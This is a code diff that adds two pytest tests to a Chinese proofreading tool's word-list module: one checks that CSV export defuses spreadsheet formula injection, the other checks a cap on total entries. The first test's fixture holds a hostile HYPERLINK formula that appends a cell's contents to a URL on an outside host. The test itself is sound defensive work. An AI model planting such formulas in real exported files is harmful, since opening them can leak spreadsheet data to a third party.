@@ -152,3 +152,26 @@ def test_fix_all_of_a_group_and_ignore_a_group():
     rest = group_findings(f for f in review_draft(d) if f.section_id == sec.id)
     ignore(d, next(f for f in rest if f.rule == "formulation"))
     assert not [f for f in review_draft(d) if f.section_id == sec.id and f.rule == "formulation"]
+
+
+def test_csv_export_cannot_carry_a_formula(lists, tmp_path):
+    evil = [WordEntry(wrong='=HYPERLINK("http://x/?"&A1,"点")', right="+1", note="-2"),
+            WordEntry(list_name="@list", wrong="好", right="@好")]
+    for e in evil:
+        lists.add(e)
+    text = lists.export("csv")
+    cells = [c for line in text.splitlines()[1:] for c in line.split(",")]
+    assert not any(c.lstrip('"').startswith(("=", "+", "-", "@")) for c in cells), text
+    other = WordLists(DraftStore(f"sqlite:///{tmp_path / 'other.db'}"))
+    other.import_file(text, "csv")
+    assert set(other.entries()) == set(evil)  # the ' comes off again on import
+
+
+def test_total_entries_capped(lists, monkeypatch):
+    import drafter.proofreading.wordlists as wl
+
+    monkeypatch.setattr(wl, "MAX_TOTAL", 3)
+    lists.import_file("错误写法,建议写法\n甲,乙\n丙,丁\n", "csv")
+    with pytest.raises(InputError, match="上限 3 条"):
+        lists.import_file("错误写法,建议写法\n戊,己\n庚,辛\n", "csv")
+    assert len(lists.all()) == 2
